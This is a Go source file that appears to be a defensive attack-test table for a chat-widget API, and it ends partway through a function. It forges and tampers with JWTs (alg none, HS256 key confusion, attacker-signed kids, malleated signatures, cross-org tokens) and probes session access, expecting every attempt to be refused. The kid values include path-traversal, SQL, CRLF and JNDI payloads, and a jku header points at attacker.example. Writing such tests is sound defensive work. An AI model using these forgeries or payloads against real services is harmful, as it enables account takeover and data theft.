package attack

import (
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"time"

	"github.com/google/uuid"
)

// The classes, in the order of the table.
const (
	ClassAlgNone            = "alg-none"
	ClassAlgHS256           = "alg-hs256-public-key"
	ClassKIDUnknown         = "kid-unknown"
	ClassKIDInjected        = "kid-injected"
	ClassExpired            = "token-expired"
	ClassNotYetValid        = "token-not-yet-valid"
	ClassOtherOrg           = "token-other-org"
	ClassTampered           = "token-tampered"
	ClassSigStripped        = "token-signature-stripped"
	ClassRevoked            = "token-revoked"
	ClassOversized          = "oversized"
	ClassContactAsVerified  = "contact-as-verified"
	ClassAPIKeyOtherOrg     = "api-key-other-org"
	ClassAPIKeyDeleted      = "api-key-deleted"
	ClassAPIKeyForged       = "api-key-forged"
	ClassAdminForged        = "admin-token-forged"
	ClassWrongKind          = "credential-wrong-kind"
	ClassOtherDevice        = "session-other-device"
	ClassClaimedEmail       = "contact-claims-email"
	ClassExternalID         = "external-id-outside-token"
	ClassCORSOrigin         = "cors-origin-not-allowed"
	ClassCORSPreflight      = "cors-preflight-unknown"
	ClassCORSServerRoutes   = "cors-server-routes"
	ClassSecurityHeaders    = "security-headers"
	ClassCredentialInURL    = "credential-in-url"
	ClassIdentityKinds      = "identity-key-kinds"
	ClassCaseFoldEmail      = "email-case-fold"
	ClassDeletedKeyTokens   = "token-of-deleted-api-key"
	ClassDeviceInToken      = "token-holds-device"
	invalidToken            = "invalid_token"
	unauthorized            = "unauthorized"
	notFound                = "not_found"
	originNotAllowed        = "origin_not_allowed"
	externalIDMismatch      = "external_id_mismatch"
	tokenExpired            = "token_expired"
	tokenRevoked            = "token_revoked"
	payloadTooLarge         = "payload_too_large"
	methodNotAllowed        = "method_not_allowed"
	attackContent           = `{"content":"attack"}`
	attackSessionBody       = `{"custom_data":{"attack":true}}`
	attackSessionOtherExt   = `{"external_id":"ws-2"}`
	attackAuthenticateBody  = `{"user_id":"u-victim","name":"Attacker","custom_data":{"role":"admin"}}`
	attackRevokeVictimBody  = `{"user_id":"u-victim"}`
	attackContactNameChange = `{"device_id":"%s","name":"Attacker","email":"attacker@evil.example"}`
)

// Cases returns the whole attack table.
func Cases() []Case {
	var cs []Case
	for _, part := range [][]Case{
		algNoneCases(), hs256Cases(), kidUnknownCases(), kidInjectedCases(),
		expiredCases(), notYetValidCases(), otherOrgCases(), tamperedCases(),
		sigStrippedCases(), revokedCases(), oversizedCases(), contactAsVerifiedCases(),
		apiKeyOtherOrgCases(), apiKeyDeletedCases(), apiKeyForgedCases(), adminForgedCases(),
		wrongKindCases(), otherDeviceCases(), claimedEmailCases(), externalIDCases(),
		corsOriginCases(), corsPreflightCases(), corsServerRouteCases(), credentialInURLCases(),
		securityHeaderCases(), identityKindCases(), caseFoldEmailCases(), deletedKeyTokenCases(),
		deviceInTokenCases(), malformedEscapeCases(), jsonKeyCaseCases(), jsonKeyRepeatedCases(), jsonDeepCases(),
	} {
		cs = append(cs, part...)
	}
	return cs
}

// ---- requests ----

// route is a widget route a user token is presented on.
type route struct {
	name   string
	method string
	path   func(f *Fixture) string
	body   string
}

func fixed(p string) func(*Fixture) string { return func(*Fixture) string { return p } }

var (
	routeMe     = route{"GET /v1/widget/me", "GET", fixed("/v1/widget/me"), ""}
	routeCreate = route{"POST /v1/widget/sessions", "POST", fixed("/v1/widget/sessions"), attackSessionBody}
	routeList   = route{"GET /v1/widget/sessions", "GET", fixed("/v1/widget/sessions"), ""}
	routeGet    = route{"GET /v1/widget/sessions/{A1's}", "GET", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SA1 }, ""}
	routePost   = route{"POST /v1/widget/sessions/{A1's}/messages", "POST", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SA1 + "/messages" }, attackContent}

	// routeForget would erase the token's contact if let through.
	routeForget = route{"DELETE /v1/widget/me", "DELETE", fixed("/v1/widget/me"), ""}

	// allRoutes are the routes behind a user token; writeRoutes the read of
	// /me and those that would store or erase something if let through.
	allRoutes   = []route{routeMe, routeCreate, routeList, routeGet, routePost, routeForget}
	writeRoutes = []route{routeMe, routeCreate, routePost, routeForget}
)

func bodyOf(s string) []byte {
	if s == "" {
		return nil
	}
	return []byte(s)
}

// widgetReq is a widget call with widget token pk and user token tok ("" for none).
func widgetReq(method, path, pk, tok, body string) Request {
	h := http.Header{}
	if pk != "" {
		h.Set("X-Widget-Token", pk)
	}
	if tok != "" {
		h.Set("Authorization", "Bearer "+tok)
	}
	return Request{Method: method, Path: path, Header: h, Body: bodyOf(body)}
}

// serverReq is an org-server (or vendor) call with Authorization value auth ("" for none).
func serverReq(method, path, auth, body string) Request {
	h := http.Header{}
	if auth != "" {
		h.Set("Authorization", auth)
	}
	return Request{Method: method, Path: path, Header: h, Body: bodyOf(body)}
}

// token is a user token an attacker presents, with the widget token it
// comes with.
type userToken struct {
	name     string
	needsKey bool
	pk       func(f *Fixture) string // nil: org A's widget token
	make     func(f *Fixture) string
	echo     []string // strings in it the answer must not repeat
}

// tokenCases presents each token on each route and wants the same refusal.
func tokenCases(class string, want Want, routes []route, toks ...userToken) []Case {
	var cs []Case
	for _, tk := range toks {
		for _, rt := range routes {
			cs = append(cs, Case{
				Class:    class,
				Name:     tk.name + ": " + rt.name,
				NeedsKey: tk.needsKey,
				Req: func(f *Fixture) Request {
					pk := f.A.WidgetToken
					if tk.pk != nil {
						pk = tk.pk(f)
					}
					req := widgetReq(rt.method, rt.path(f), pk, tk.make(f), rt.body)
					req.Echo = tk.echo
					return req
				},
				Want: want,
			})
		}
	}
	return cs
}

func refusal(status int, code string) Want { return Want{Status: status, Code: code} }

// ---- token material ----

func (f *Fixture) header() map[string]any {
	return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID}
}

// signed signs claims with the worker's own key under header (its kid
// unless header says otherwise); only for cases with NeedsKey.
func (f *Fixture) signed(header, claims map[string]any) string {
	if f.signKey == nil {
		return "needs-the-signing-key"
	}
	if header == nil {
		header = map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.signKID}
	}
	return signEd(f.signKey, header, claims)
}

// timed sets a token's times: issued at iat, valid for ttl, and a fresh jti.
func timed(c map[string]any, iat time.Time, ttl time.Duration) map[string]any {
	c["iat"] = iat.Unix()
	c["iat_ms"] = iat.Unix() * 1000
	c["nbf"] = iat.Unix()
	c["exp"] = iat.Add(ttl).Unix()
	c["jti"] = uuid.NewString()
	return c
}

// contactClaims are A1's contact token's claims, fresh.
func (f *Fixture) contactClaims() map[string]any {
	return timed(f.claimsOf(f.CA1), time.Now(), time.Hour)
}

func (f *Fixture) victimClaims() map[string]any {
	return timed(f.claimsOf(f.V), time.Now(), time.Hour)
}

// ---- token classes ----

func algNoneCases() []Case {
	none := func(alg string, withKID bool, victim bool, sig func(f *Fixture) string) func(f *Fixture) string {
		return func(f *Fixture) string {
			h := map[string]any{"alg": alg}
			if withKID {
				h["typ"], h["kid"] = "JWT", f.KID
			}
			claims := f.claimsOf(f.CA1)
			if victim {
				claims = f.claimsOf(f.V)
			}
			s := ""
			if sig != nil {
				s = sig(f)
			}
			return unsigned(h, claims, s)
		}
	}
	keptSig := func(f *Fixture) string { _, _, s := jwtParts(f.CA1); return s }
	return tokenCases(ClassAlgNone, refusal(401, invalidToken), allRoutes,
		userToken{name: "alg none, empty signature", make: none("none", true, false, nil)},
		userToken{name: "alg None", make: none("None", true, false, nil)},
		userToken{name: "alg NONE, no kid", make: none("NONE", false, false, nil)},
		userToken{name: "alg none, genuine signature kept", make: none("none", true, false, keptSig)},
		userToken{name: "alg none, the victim's verified claims", make: none("none", true, true, nil)},
		userToken{name: "no alg at all, genuine signature kept", make: func(f *Fixture) string {
			return withHeader(f.CA1, map[string]any{"typ": "JWT", "kid": f.KID})
		}},
	)
}

func hs256Cases() []Case {
	hs := func(alg string, secret func(f *Fixture) []byte, victim bool) func(f *Fixture) string {
		return func(f *Fixture) string {
			claims := f.claimsOf(f.CA1)
			if victim {
				claims = f.claimsOf(f.V)
			}
			return signHMAC(alg, secret(f), map[string]any{"alg": alg, "typ": "JWT", "kid": f.KID}, claims)
		}
	}
	raw := func(f *Fixture) []byte { return f.PublicKey }
	x := func(f *Fixture) []byte { return []byte(b64(f.PublicKey)) }
	doc := func(f *Fixture) []byte { return f.JWKS }
	return tokenCases(ClassAlgHS256, refusal(401, invalidToken), allRoutes,
		userToken{name: "HS256 keyed with the public key's bytes", make: hs("HS256", raw, false)},
		userToken{name: "HS256 keyed with the JWKS x string", make: hs("HS256", x, false)},
		userToken{name: "HS256 keyed with the whole JWKS", make: hs("HS256", doc, false)},
		userToken{name: "HS384 keyed with the public key", make: hs("HS384", raw, false)},
		userToken{name: "HS512 keyed with the public key", make: hs("HS512", raw, false)},
		userToken{name: "HS256 keyed with the public key, the victim's claims", make: hs("HS256", raw, true)},
	)
}

func kidUnknownCases() []Case {
	att := func(header func(f *Fixture) map[string]any) func(f *Fixture) string {
		return func(f *Fixture) string { return signEd(f.Attacker, header(f), f.contactClaims()) }
	}
	return tokenCases(ClassKIDUnknown, refusal(401, invalidToken), writeRoutes,
		userToken{name: "attacker's key, unknown kid", make: att(func(*Fixture) map[string]any {
			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1"}
		})},
		userToken{name: "attacker's key, no kid", make: att(func(*Fixture) map[string]any {
			return map[string]any{"alg": "EdDSA", "typ": "JWT"}
		})},
		userToken{name: "attacker's key, the worker's kid", make: att(func(f *Fixture) map[string]any { return f.header() })},
		userToken{name: "attacker's key, empty kid", make: att(func(*Fixture) map[string]any {
			return map[string]any{"alg": "EdDSA", "kid": ""}
		})},
		userToken{name: "attacker's key, numeric kid", make: att(func(*Fixture) map[string]any {
			return map[string]any{"alg": "EdDSA", "kid": 1}
		})},
		userToken{name: "attacker's key embedded as a jwk header", make: att(func(f *Fixture) map[string]any {
			pub := f.Attacker.Public().(ed25519.PublicKey)
			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1",
				"jwk": map[string]any{"kty": "OKP", "crv": "Ed25519", "x": b64(pub), "kid": "attacker-1"}}
		})},
		userToken{name: "attacker's key named by a jku header", make: att(func(f *Fixture) map[string]any {
			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID, "jku": "https://attacker.example/jwks.json"}
		})},
		userToken{name: "genuine signature under a kid the worker lacks", needsKey: true, make: func(f *Fixture) string {
			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID + "-old"}, f.contactClaims())
		}},
		userToken{name: "genuine signature under the kid in upper case", needsKey: true, make: func(f *Fixture) string {
			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": strings.ToUpper(f.KID)}, f.contactClaims())
		}},
	)
}

func kidInjectedCases() []Case {
	kids := []struct{ name, kid string }{
		{"path traversal", "../../etc/passwd"},
		{"SQL", "' OR 1=1 --"},
		{"4 KiB long", strings.Repeat("K", 4096)},
		{"NUL byte", "x\x00y"},
		{"URL", "https://attacker.example/jwks.json"},
		{"JNDI", "${jndi:ldap://attacker.example/a}"},
		{"header injection", "k\r\nX-Injected: 1"},
	}
	var toks []userToken
	for _, k := range kids {
		toks = append(toks,
			userToken{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid}, make: func(f *Fixture) string {
				return signEd(f.Attacker, map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}, f.contactClaims())
			}},
			userToken{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid}, make: func(f *Fixture) string {
				return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}, f.contactClaims())
			}},
		)
	}
	return tokenCases(ClassKIDInjected, refusal(401, invalidToken), writeRoutes, toks...)
}

func expiredCases() []Case {
	return tokenCases(ClassExpired, refusal(401, tokenExpired), allRoutes,
		userToken{name: "contact token expired an hour ago", needsKey: true, make: func(f *Fixture) string {
			return f.signed(nil, timed(f.claimsOf(f.CA1), time.Now().Add(-2*time.Hour), time.Hour))
		}},
		userToken{name: "verified token expired ten minutes ago", needsKey: true, make: func(f *Fixture) string {
			return f.signed(nil, timed(f.claimsOf(f.V), time.Now().Add(-70*time.Minute), time.Hour))
		}},
	)
}

func notYetValidCases() []Case {
	return tokenCases(ClassNotYetValid, refusal(401, invalidToken), writeRoutes,
		userToken{name: "issued an hour from now", needsKey: true, make: func(f *Fixture) string {
			return f.signed(nil, timed(f.claimsOf(f.CA1), time.Now().Add(time.Hour), time.Hour))
		}},
		userToken{name: "nbf an hour from now", needsKey: true, make: func(f *Fixture) string {
			c := f.contactClaims()
			c["nbf"] = time.Now().Add(time.Hour).Unix()
			return f.signed(nil, c)
		}},
		userToken{name: "verified, issued a day from now", needsKey: true, make: func(f *Fixture) string {
			return f.signed(nil, timed(f.claimsOf(f.V), time.Now().Add(24*time.Hour), 48*time.Hour))
		}},
	)
}

func otherOrgCases() []Case {
	pkB := func(f *Fixture) string { return f.B.WidgetToken }
	return tokenCases(ClassOtherOrg, refusal(401, invalidToken), allRoutes,
		userToken{name: "org B's contact token with A's widget token", make: func(f *Fixture) string { return f.CB1 }},
		userToken{name: "org B's verified token (same user_id) with A's widget token", make: func(f *Fixture) string { return f.VB }},
		userToken{name: "org A's contact token with B's widget token", pk: pkB, make: func(f *Fixture) string { return f.CA1 }},
		userToken{name: "org A's verified token with B's widget token", pk: pkB, make: func(f *Fixture) string { return f.V }},
		userToken{name: "genuine signature, aud org B, with A's widget token", needsKey: true, make: func(f *Fixture) string {
			c := f.contactClaims()
			c["aud"] = []string{f.B.ID}
			return f.signed(nil, c)
		}},
		userToken{name: "genuine signature, aud a prefix-extension of org A", needsKey: true, make: func(f *Fixture) string {
			c := f.contactClaims()
			c["aud"] = f.A.ID + "x"
			return f.signed(nil, c)
		}},
	)
}

func tamperedCases() []Case {
	tamper := func(tok func(f *Fixture) string, fn func(f *Fixture, c map[string]any)) func(f *Fixture) string {
		return func(f *Fixture) string {
			t := tok(f)
			return withPayload(t, edit(f.claimsOf(t), func(c map[string]any) { fn(f, c) }))
		}
	}
	ca1 := func(f *Fixture) string { return f.CA1 }
	v := func(f *Fixture) string { return f.V }
	vext := func(f *Fixture) string { return f.VExt }
	return tokenCases(ClassTampered, refusal(401, invalidToken), writeRoutes,
		userToken{name: "contact sub changed to device A2", make: tamper(ca1, func(f *Fixture, c map[string]any) { c["sub"] = f.DevA2 })},
		userToken{name: "contact cid changed", make: tamper(ca1, func(f *Fixture, c map[string]any) { c["cid"] = uuid.NewString() })},
		userToken{name: "aud changed to org B, with B's widget token", pk: func(f *Fixture) string { return f.B.WidgetToken },
			make: tamper(ca1, func(f *Fixture, c map[string]any) { c["aud"] = []string{f.B.ID} })},
		userToken{name: "exp pushed a year ahead", make: tamper(ca1, func(f *Fixture, c map[string]any) {
			c["exp"] = time.Now().AddDate(1, 0, 0).Unix()
		})},
		userToken{name: "verified: external_id changed to ws-2", make: tamper(vext, func(f *Fixture, c map[string]any) { c["external_id"] = OtherExt })},
		userToken{name: "verified: external_id removed", make: tamper(vext, func(f *Fixture, c map[string]any) { delete(c, "external_id") })},
		userToken{name: "verified: sub and uid changed", make: tamper(v, func(f *Fixture, c map[string]any) { c["sub"], c["uid"] = "u-other", "u-other" })},
		userToken{name: "verified: email changed", make: tamper(v, func(f *Fixture, c map[string]any) { c["email"] = "admin@shop-a.example" })},
		userToken{name: "same claims re-encoded", make: tamper(ca1, func(*Fixture, map[string]any) {})},
		userToken{name: "header changed (typ)", make: func(f *Fixture) string {
			return withHeader(f.CA1, map[string]any{"alg": "EdDSA", "typ": "JWS", "kid": f.KID})
		}},
		userToken{name: "payload with base64 padding", make: func(f *Fixture) string {
			h, p, s := jwtParts(f.CA1)
			return h + "." + p + strings.Repeat("=", (4-len(p)%4)%4+4) + "." + s
		}},
	)
}

func sigStrippedCases() []Case {
	strip := func(tok func(f *Fixture) string, sig func(f *Fixture, s string) string, dots int) func(f *Fixture) string {
		return func(f *Fixture) string {
			h, p, s := jwtParts(tok(f))
			if dots == 1 {
				return h + "." + p
			}
			return h + "." + p + "." + sig(f, s)
		}
	}
	ca1 := func(f *Fixture) string { return f.CA1 }
	return tokenCases(ClassSigStripped, refusal(401, invalidToken), allRoutes,
		userToken{name: "contact token, empty signature", make: strip(ca1, func(*Fixture, string) string { return "" }, 2)},
		userToken{name: "contact token, no signature segment", make: strip(ca1, nil, 1)},
		userToken{name: "verified token, empty signature", make: strip(func(f *Fixture) string { return f.V }, func(*Fixture, string) string { return "" }, 2)},
		userToken{name: "another token's signature", make: strip(ca1, func(f *Fixture, _ string) string { _, _, s := jwtParts(f.CA2); return s }, 2)},
		userToken{name: "signature truncated", make: strip(ca1, func(_ *Fixture, s string) string { return s[:len(s)/2] }, 2)},
		userToken{name: "signature of zero bytes", make: strip(ca1, func(*Fixture, string) string { return b64(make([]byte, 64)) }, 2)},
		userToken{name: "signature with one bit flipped", make: strip(ca1, func(_ *Fixture, s string) string { return b64(flipBit(unb64(s), 77)) }, 2)},
		userToken{name: "signature malleated, S + L (passes a lax Ed25519 check)", make: strip(ca1, func(_ *Fixture, s string) string { return b64(malleate(unb64(s))) }, 2)},
	)
}

func revokedCases() []Case {
	r := func(f *Fixture) string { return f.R }
	cs := tokenCases(ClassRevoked, refusal(401, tokenRevoked), allRoutes, userToken{name: "revoked user's token", make: r})
	own := []route{
		{"GET /v1/widget/sessions/{its own}", "GET", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SR }, ""},
		{"POST /v1/widget/sessions/{its own}/messages", "POST", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SR + "/messages" }, attackContent},
	}
	cs = append(cs, tokenCases(ClassRevoked, refusal(401, tokenRevoked), own, userToken{name: "revoked user's token", make: r})...)
	cs = append(cs, tokenCases(ClassRevoked, refusal(401, tokenRevoked), writeRoutes,
		userToken{name: "revoked user's claims re-signed without iat_ms", needsKey: true, make: func(f *Fixture) string {
			c := f.claimsOf(f.R)
			delete(c, "iat_ms")
			return f.signed(nil, c)
		}})...)
	return cs
}

func oversizedCases() []Case {
	pad := func(n int) string { return strings.Repeat("A", n) }
	platform := func(status int, code string) Want { return Want{Status: status, Code: code, Platform: true} }
	return []Case{
		{Class: ClassOversized, Name: "9 KiB token with a genuine signature: GET /v1/widget/me", NeedsKey: true,
			Req: func(f *Fixture) Request {
				c := f.contactClaims()
				c["pad"] = pad(9 << 10)
				return widgetReq("GET", "/v1/widget/me", f.A.WidgetToken, f.signed(nil, c), "")
			}, Want: refusal(401, invalidToken)},
		{Class: ClassOversized, Name: "100 KB token: POST /v1/widget/sessions",
			Req: func(f *Fixture) Request {
				h, p, s := jwtParts(f.CA1)
				return widgetReq("POST", "/v1/widget/sessions", f.A.WidgetToken, h+"."+p+pad(100_000)+"."+s, attackSessionBody)
			}, Want: platform(401, invalidToken)},
		{Class: ClassOversized, Name: "1 MB Authorization header: POST /v1/widget/sessions",
			Req: func(f *Fixture) Request {
				return widgetReq("POST", "/v1/widget/sessions", f.A.WidgetToken, pad(1<<20), attackSessionBody)
			}, Want: platform(401, invalidToken)},
		{Class: ClassOversized, Name: "1 MB X-Widget-Token: POST /v1/widget/contacts",
			Req: func(f *Fixture) Request {
				return widgetReq("POST", "/v1/widget/contacts", "pk_"+pad(1<<20), "", fmt.Sprintf(attackContactNameChange, f.DevA1))
			}, Want: platform(401, unauthorized)},
		{Class: ClassOversized, Name: "100 KB api key: POST /v1/users/authenticate",
			Req: func(f *Fixture) Request {
				return serverReq("POST", "/v1/users/authenticate", "Bearer sk_"+pad(100_000), attackAuthenticateBody)
			}, Want: platform(401, unauthorized)},
		{Class: ClassOversized, Name: "100 KB admin token: POST /v1/admin/orgs",
			Req: func(f *Fixture) Request {
				return serverReq("POST", "/v1/admin/orgs", "Bearer "+f.adminToken+pad(100_000), probeOrgBody(f))
			}, Want: platform(401, unauthorized)},
		{Class: ClassOversized, Name: "1 MB body: POST /v1/widget/contacts",
			Req: func(f *Fixture) Request {
				body := fmt.Sprintf(`{"device_id":%q,"name":"Attacker","custom_data":{"x":%q}}`, f.DevA1, pad(1<<20))
				return widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", body)
			}, Want: platform(413, payloadTooLarge)},
		{Class: ClassOversized, Name: "1 MB body: POST /v1/users/authenticate",
			Req: func(f *Fixture) Request {
				body := fmt.Sprintf(`{"user_id":"u-victim","name":"Attacker","custom_data":{"x":%q}}`, pad(1<<20))
				return serverReq("POST", "/v1/users/authenticate", "Bearer "+f.A.APIKey, body)
			}, Want: platform(413, payloadTooLarge)},
		{Class: ClassOversized, Name: "65 KiB message: POST /v1/widget/sessions/{id}/messages",
			Req: func(f *Fixture) Request {
				body := fmt.Sprintf(`{"content":%q}`, pad(65<<10))
				return widgetReq("POST", "/v1/widget/sessions/"+f.SA1+"/messages", f.A.WidgetToken, f.CA1, body)
			}, Want: refusal(413, payloadTooLarge)},
		{Class: ClassOversized, Name: "65 KiB agent message: POST /v1/sessions/{id}/messages",
			Req: func(f *Fixture) Request {
				body := fmt.Sprintf(`{"content":%q}`, pad(65<<10))
				return serverReq("POST", "/v1/sessions/"+f.SA1+"/messages", "Bearer "+f.A.APIKey, body)
			}, Want: refusal(413, payloadTooLarge)},
	}
}

// probeOrgBody is an org that, if created, allows the probe origin: the
// observer would see its preflight answered.
func probeOrgBody(f *Fixture) string {
	return fmt.Sprintf(`{"name":"Attacker","allowed_origins":[%q]}`, f.ProbeOrigin)
}

// ---- answers that must show only the caller's own ----

type listing struct {
	Items []struct {
		ID string `json:"id"`
	} `json:"items"`
}

func sessionIDs(r *Response) ([]string, error) {
	var l listing
	if err := json.Unmarshal(r.Body, &l); err != nil {
		return nil, err
	}
	ids := make([]string, 0, len(l.Items))
	for _, it := range l.Items {
		ids = append(ids, it.ID)
	}
	return ids, nil
}

// listExactly: a listing of exactly the sessions named.
func listExactly(want func(f *Fixture) []string) func(*Fixture, *Response) []string {
	return func(f *Fixture, r *Response) []string {
		got, err := sessionIDs(r)
		if err != nil {
			return []string{"listing is not {items:[...]}"}
		}
		w := want(f)
		slices.Sort(got)
		slices.Sort(w)
		if !slices.Equal(got, w) {
			return []string{fmt.Sprintf("listing shows %s, want exactly %s", f.names(got), f.names(w))}
		}
		return nil
	}
}

// listWithin: a listing of none but the sessions named.
func listWithin(allowed func(f *Fixture) []string) func(*Fixture, *Response) []string {
	return func(f *Fixture, r *Response) []string {
		got, err := sessionIDs(r)
		if err != nil {
			return []string{"listing is not {items:[...]}"}
		}
		ok := allowed(f)
		var leaked []string
		for _, id := range got {
			if !slices.Contains(ok, id) {
				leaked = append(leaked, id)
			}
		}
		if len(leaked) > 0 {
			return []string{fmt.Sprintf("listing leaks %s", f.names(leaked))}
		}
		return nil
	}
}

// names names the fixture's sessions in messages.
func (f *Fixture) names(ids []string) string {
	m := map[string]string{f.SA1: "SA1", f.SA1b: "SA1b", f.SA2: "SA2", f.SA3: "SA3", f.SV: "SV", f.SVws1: "SVws1",
		f.SVws2: "SVws2", f.SR: "SR", f.SB1: "SB1", f.SBV: "SBV"}
	out := make([]string, len(ids))
	for i, id := range ids {
		if n, ok := m[id]; ok {
			out[i] = n
		} else {
			out[i] = "other session " + id
		}
	}
	return "[" + strings.Join(out, " ") + "]"
}

// hidden: a 404 exactly like the one for a session that does not exist.
func hidden(f *Fixture, r *Response) []string {
	if !bytes.Equal(r.Body, f.NotFound) {
		return []string{"the 404 differs from the one for a session that does not exist: it tells the session exists"}
	}
	return nil
}

var hiddenWant = Want{Status: 404, Code: notFound, Check: hidden}

// meIsContact: /me shows the contact of the token's device, not verified,
// and no user.
func meIsContact(id func(f *Fixture) string) func(*Fixture, *Response) []string {
	return func(f *Fixture, r *Response) []string {
		var me struct {
			Contact *struct {
				ID       string `json:"id"`
				Verified *bool  `json:"verified"`
			} `json:"contact"`
			User json.RawMessage `json:"user"`
		}
		if err := json.Unmarshal(r.Body, &me); err != nil || me.Contact == nil {
			return []string{"/me shows no contact"}
		}
		var p []string
		if me.User != nil {
			p = append(p, "/me of a contact token shows a user")
		}
		if me.Contact.Verified == nil || *me.Contact.Verified {
			p = append(p, "/me of a contact token is not verified:false")
		}
		if want := id(f); want != "" && me.Contact.ID != want {
			p = append(p, "/me shows another contact")
		}
		return p
	}
}

func ids(fs ...func(f *Fixture) string) func(f *Fixture) []string {
	return func(f *Fixture) []string {
		out := make([]string, len(fs))
		for i, fn := range fs {
			out[i] = fn(f)
		}
		return out
	}
}

var (
	sA1   = func(f *Fixture) string { return f.SA1 }
	sA1b  = func(f *Fixture) string { return f.SA1b }
	sA2   = func(f *Fixture) string { return f.SA2 }
	sA3   = func(f *Fixture) string { return f.SA3 }
	sV    = func(f *Fixture) string { return f.SV }
	sVws1 = func(f *Fixture) string { return f.SVws1 }
	sVws2 = func(f *Fixture) string { return f.SVws2 }
	sB1   = func(f *Fixture) string { return f.SB1 }
	sBV   = func(f *Fixture) string { return f.SBV }
)

// widgetCase is a case of a widget call as principal tok (of org A unless pk says).
func widgetCase(class, name, method string, path func(f *Fixture) string, pk, tok func(f *Fixture) string, body string, want Want) Case {
	return Case{Class: class, Name: name, Want: want, Req: func(f *Fixture) Request {
		p := f.A.WidgetToken
		if pk != nil {
			p = pk(f)
		}
		return widgetReq(method, path(f), p, tok(f), body)
	}}
}

func sessionPath(s func(f *Fixture) string) func(f *Fixture) string {
	return func(f *Fixture) string { return "/v1/widget/sessions/" + s(f) }
}

func messagesPath(s func(f *Fixture) string) func(f *Fixture) string {
	return func(f *Fixture) string { return "/v1/widget/sessions/" + s(f) + "/messages" }
}

var (
	tCA1  = func(f *Fixture) string { return f.CA1 }
	tCA2  = func(f *Fixture) string { return f.CA2 }
	tCA3  = func(f *Fixture) string { return f.CA3 }
	tCB1  = func(f *Fixture) string { return f.CB1 }
	tV    = func(f *Fixture) string { return f.V }
	tVExt = func(f *Fixture) string { return f.VExt }
	pkB   = func(f *Fixture) string { return f.B.WidgetToken }
)

func ok(check func(*Fixture, *Response) []string) Want { return Want{Status: 200, Check: check} }

// ---- who sees which chats ----

func contactAsVerifiedCases() []Case {
	flip := func(fn func(f *Fixture, c map[string]any)) func(f *Fixture) string {
		return func(f *Fixture) string {
			return withPayload(f.CA1, edit(f.claimsOf(f.CA1), func(c map[string]any) { fn(f, c) }))
		}
	}
	cs := tokenCases(ClassContactAsVerified, refusal(401, invalidToken), writeRoutes,
		userToken{name: "kind flipped to verified as the victim, signature kept", make: flip(func(f *Fixture, c map[string]any) {
			c["kind"], c["sub"], c["uid"], c["email"] = "verified", VictimID, VictimID, VictimEmail
			delete(c, "cid")
		})},
		userToken{name: "kind flipped to verified, cid kept, signature kept", make: flip(func(f *Fixture, c map[string]any) { c["kind"] = "verified" })},
		userToken{name: "genuine signature on a contact with the victim's uid and email", needsKey: true, make: func(f *Fixture) string {
			c := f.contactClaims()
			c["uid"], c["email"] = VictimID, VictimEmail
			return f.signed(nil, c)
		}},
		userToken{name: "genuine signature, kind verified with a cid", needsKey: true, make: func(f *Fixture) string {
			c := f.contactClaims()
			c["kind"], c["sub"], c["uid"] = "verified", VictimID, VictimID
			return f.signed(nil, c)
		}},
	)
	return append(cs,
		widgetCase(ClassContactAsVerified, "A1's contact token lists only A1's sessions (not the victim's, though the victim chatted from A1's browser too)",
			"GET", fixed("/v1/widget/sessions"), nil, tCA1, "", ok(listExactly(ids(sA1, sA1b)))),
		widgetCase(ClassContactAsVerified, "A1's contact token lists ws-1: only A1's ws-1 session",
			"GET", fixed("/v1/widget/sessions?external_id="+BoundExt), nil, tCA1, "", ok(listExactly(ids(sA1b)))),
		widgetCase(ClassContactAsVerified, "A1's contact token reads the victim's session", "GET", sessionPath(sV), nil, tCA1, "", hiddenWant),
		widgetCase(ClassContactAsVerified, "A1's contact token posts to the victim's session", "POST", messagesPath(sV), nil, tCA1, attackContent, hiddenWant),
		widgetCase(ClassContactAsVerified, "A1's /me is its contact, not verified", "GET", fixed("/v1/widget/me"), nil, tCA1, "",
			ok(meIsContact(func(f *Fixture) string { return f.ContactA1 }))),
		widgetCase(ClassContactAsVerified, "the victim's verified token lists none of the device's contact sessions",
			"GET", fixed("/v1/widget/sessions"), nil, tV, "", ok(listExactly(ids(sV, sVws1, sVws2)))),
		widgetCase(ClassContactAsVerified, "the victim's verified token reads A1's contact session", "GET", sessionPath(sA1), nil, tV, "", hiddenWant),
	)
}

func otherDeviceCases() []Case {
	return []Case{
		widgetCase(ClassOtherDevice, "A2 reads A1's session by id", "GET", sessionPath(sA1), nil, tCA2, "", hiddenWant),
		widgetCase(ClassOtherDevice, "A2 reads A1's session after a message", "GET", func(f *Fixture) string {
			return "/v1/widget/sessions/" + f.SA1 + "?after=" + uuid.Must(uuid.NewV7()).String()
		}, nil, tCA2, "", hiddenWant),
		widgetCase(ClassOtherDevice, "A2 reads A1's ws-1 session", "GET", sessionPath(sA1b), nil, tCA2, "", hiddenWant),
		widgetCase(ClassOtherDevice, "A2 posts to A1's session", "POST", messagesPath(sA1), nil, tCA2, attackContent, hiddenWant),
		{Class: ClassOtherDevice, Name: "A2 posts to A1's session with an Idempotency-Key", Want: hiddenWant, Req: func(f *Fixture) Request {
			req := widgetReq("POST", "/v1/widget/sessions/"+f.SA1+"/messages", f.A.WidgetToken, f.CA2, attackContent)
			req.Header.Set("Idempotency-Key", "attack-"+uuid.NewString())
			return req
		}},
		widgetCase(ClassOtherDevice, "A2 reads A1's session id in upper case", "GET", func(f *Fixture) string {
			return "/v1/widget/sessions/" + strings.ToUpper(f.SA1)
		}, nil, tCA2, "", hiddenWant),
